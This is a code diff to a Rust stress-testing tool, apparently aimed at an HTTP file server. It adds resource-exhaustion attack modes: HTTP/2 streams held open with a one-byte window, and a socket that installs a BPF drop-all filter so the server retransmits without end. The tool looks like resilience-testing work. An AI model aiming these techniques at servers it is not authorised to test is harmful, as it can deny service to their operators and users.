@@ -9,7 +9,10 @@
 //! - **Pieces over HTTP/1.1** are Range requests, [`PIPELINED`] of them under way on a connection: the
 //!   next leaves when one is answered (`answers` reads them).
 //! - **Pieces over HTTP/2**, by prior knowledge: so many streams at a time on a connection (`http2`).
+//! - **A trickle**: HTTP/2 streams that ask for the whole file and give a window of one byte, again and again.
 //! - **Whoever never reads** asks for the file and leaves what comes in a small receive buffer.
+//! - **Whoever never acknowledges** asks for it and has its kernel drop whatever comes, before TCP sees it (a
+//!   filter on the socket), so that the server sends the same again and again.
 
 mod answers;
 mod http2;
@@ -23,6 +26,7 @@ use std::sync::atomic::{AtomicU64, Ordering};
 use std::time::{Duration, Instant};
 
 use serde::{Deserialize, Serialize};
+use socket2::{SockFilter, SockRef};
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::{TcpSocket, TcpStream};
 use tokio::signal::unix::{SignalKind, signal};
@@ -40,6 +44,8 @@ const AGAIN: Duration = Duration::from_millis(100);
 const READ_BYTES: usize = 64 << 10;
 /// The receive buffer of whoever never reads: its window closes after so much.
 const UNREAD_BYTES: u32 = 4 << 10;
+/// The classic BPF program `ret 0`: of no packet anything is let through.
+const DROP_ALL: SockFilter = SockFilter::new(0x06, 0, 0, 0);
 /// Descriptors beside the connections.
 const FILES_SPARE: u64 = 100;
 
@@ -84,8 +90,15 @@ pub enum Way {
         /// Streams at a time.
         at_a_time: u32,
     },
+    /// Asks for the file over HTTP/2 with a window of a byte at a time.
+    Trickle {
+        /// Streams at a time.
+        at_a_time: u32,
+    },
     /// Asks for the file and reads nothing.
     NeverRead,
+    /// Asks for the file and acknowledges nothing.
+    NeverAcknowledge,
 }
 
 /// What an attack came to.
@@ -238,8 +251,14 @@ impl Attack {
                 let pieces = self.pieces(piece_bytes, number);
                 http2::ask(Arc::clone(self), stream, pieces, at_a_time).await
             }
+            Way::Trickle { at_a_time } => http2::trickle(Arc::clone(self), stream, at_a_time).await,
             Way::NeverRead => {
                 stream.write_all(self.request(None).as_bytes()).await?;
+                std::future::pending().await
+            }
+            Way::NeverAcknowledge => {
+                stream.write_all(self.request(None).as_bytes()).await?;
+                SockRef::from(&stream).attach_filter(&[DROP_ALL])?;
                 std::future::pending().await
             }
         }
